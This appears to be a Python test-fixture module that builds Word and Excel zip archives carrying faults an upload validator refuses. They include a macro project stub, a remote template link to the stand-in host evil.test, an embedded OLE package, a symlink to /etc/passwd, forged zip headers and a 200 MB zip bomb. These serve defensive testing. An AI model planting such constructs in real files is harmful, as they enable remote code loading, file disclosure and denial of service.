"""Zip files, with and without the faults that the rules refuse."""

import io
import struct
import zipfile
from pathlib import Path

TYPES_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
)
OOXML = "application/vnd.openxmlformats-officedocument."
DOCX_MAIN = f"{OOXML}wordprocessingml.document.main+xml"
XLSX_MAIN = f"{OOXML}spreadsheetml.sheet.main+xml"


def zipped(members: dict[str, bytes | str]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def repacked(content: bytes, changed: dict[str, bytes | str]) -> bytes:
    """Return the archive with some members added or replaced."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**members, **changed})


def content_types(part: str, kind: str) -> str:
    return f'{TYPES_HEAD}<Override PartName="{part}" ContentType="{kind}"/></Types>'


def docx(**extra: bytes | str) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": content_types("/word/document.xml", DOCX_MAIN),
            "word/document.xml": "<w:document xmlns:w='w'><w:body/></w:document>",
            **extra,
        }
    )


def docm() -> bytes:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return docx(**{"[Content_Types].xml": content_types("/word/document.xml", macro)})


def with_vba(content: bytes) -> bytes:
    return repacked(content, {"xl/vbaProject.bin": b"code"})


def with_remote_template() -> bytes:
    relation = (
        "<Relationships><Relationship Id='r1' "
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.test/x.dotm" TargetMode="External"/></Relationships>'
    )
    return docx(**{"word/_rels/settings.xml.rels": relation})


def with_packaged_program() -> bytes:
    return docx(**{"word/embeddings/oleObject1.bin": "\x01Ole10Native".encode("utf-16-le")})


def with_symlink(content: bytes) -> bytes:
    target = io.BytesIO(content)
    with zipfile.ZipFile(target, "a") as archive:
        link = zipfile.ZipInfo("xl/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return target.getvalue()


def with_member(content: bytes, name: str) -> bytes:
    return repacked(content, {name: b"x"})


def with_duplicate(content: bytes) -> bytes:
    return repacked(content, {"XL/Workbook.xml": b"<workbook/>"})


def with_encrypted_flag(content: bytes) -> bytes:
    """Set the encryption bit in every entry of the directory."""
    changed = bytearray(content)
    position = changed.find(b"PK\x01\x02")
    while position >= 0:
        changed[position + 8] |= 1
        position = changed.find(b"PK\x01\x02", position + 4)
    return bytes(changed)


def with_false_size(content: bytes, member: str) -> bytes:
    """Let the directory declare one byte for a member that holds more."""
    changed = bytearray(content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
    position = -1
    for _ in range(names.index(member) + 1):
        position = changed.find(b"PK\x01\x02", position + 1)
    struct.pack_into("<I", changed, position + 24, 1)
    return bytes(changed)


def many_members(content: bytes, count: int) -> bytes:
    return repacked(content, {f"xl/worksheets/extra{n}.xml": "<a/>" for n in range(count)})


def sparse_archive(folder: Path) -> bytes:
    """A zip that declares 200 MB of zeros."""
    path = folder / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"\0" * (200 * 1024 * 1024))
    return path.read_bytes()
